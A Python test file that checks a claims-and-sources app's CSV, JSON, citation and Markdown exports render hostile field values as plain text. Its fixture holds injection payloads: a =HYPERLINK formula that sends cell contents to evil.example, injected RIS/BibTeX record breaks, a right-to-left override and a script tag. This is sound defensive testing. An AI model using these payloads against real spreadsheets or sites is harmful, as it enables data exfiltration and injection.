"""Formulas, injected records and turned text in any field of a source or a result leave as plain text."""

import csv
import io
import json
import re

import pytest

from claims.exports.table_formats.csv import FORMULA
from sources.intake.reading import read
from tests.people import make_accepted, make_claim, make_source

FORMULA_TEXT = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
# What the desk takes: no control characters but line ends.
INJECTED = f"{FORMULA_TEXT}\nER  - \nTY  - JOUR\n@article{{x, title={{y}}}} }}{{ \\ % \u202etxet \u200f<script>alert(1)</script>"
PLACES = [
    "/claims/?",
    "/claims/hostile/?",
    "/sources/?",
    "/tags/alert/?",
    "/search/?q=hyperlink&",
    "/overdue/?",
    "/?",
]
FILES = ["/claims/hostile", "/claims/hostile/editions/2", "/sources/hostile2024"]
REFERENCES = [("bib", "bibtex"), ("ris", "ris"), ("csl.json", "csl-json")]


@pytest.fixture
def hostile(editor, reviewer):
    claim = make_claim(by=editor, slug="hostile", tags=["alert"], statement=FORMULA_TEXT)
    source = make_source(
        by=editor,
        key="hostile2024",
        tags=["alert"],
        title=INJECTED,
        container_title=INJECTED,
        volume="=1+1",
        pages="@SUM(A1)",
        authors=[{"family": FORMULA_TEXT, "given": "+1"}, {"literal": "-1"}],
    )
    return make_accepted(
        claim=claim,
        source=source,
        by=editor,
        accepted_by=reviewer,
        outcome=INJECTED,
        finding=INJECTED,
    )


def body(client, address):
    response = client.get(address)
    assert response.status_code == 200
    return b"".join(response)


@pytest.mark.parametrize(
    "address", [*(f"{place}format=csv" for place in PLACES), *(f"{file}.csv" for file in FILES)]
)
def test_no_cell_is_a_formula(hostile, client, address):
    lines = csv.reader(io.StringIO(body(client, address).decode(), newline=""), strict=True)
    cells = [cell for line in lines for cell in line if not re.fullmatch(r"-?[\d.]+", cell)]
    assert not [cell for cell in cells if cell.startswith(FORMULA)]


@pytest.mark.parametrize("address", [f"{file}.json" for file in FILES])
def test_json_tells_the_text_as_it_was_typed(hostile, client, address):
    assert json.loads(body(client, address))["evidence"][0]["outcome"] == INJECTED


@pytest.mark.parametrize(("suffix", "code"), REFERENCES)
@pytest.mark.parametrize("file", FILES)
def test_one_source_is_one_reference(hostile, client, file, suffix, code):
    found = list(read(io.BytesIO(body(client, f"{file}.{suffix}")), format=code))
    assert len(found) == 1
    assert found[0].fields["url"] == "https://example.org/hostile2024"


@pytest.mark.parametrize("address", [f"{place}format=md" for place in PLACES])
def test_markdown_holds_no_markup(hostile, client, address):
    text = body(client, address).decode()
    assert "<script" not in text
    assert "\u202e" not in text


@pytest.mark.parametrize(
    "address", [*(f"{place}format=csv" for place in PLACES), *(f"{file}.ris" for file in FILES)]
)
def test_file_is_never_a_page(hostile, client, address):
    response = client.get(address)
    assert response.headers["Content-Disposition"].startswith("attachment; ")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "html" not in response.headers["Content-Type"]
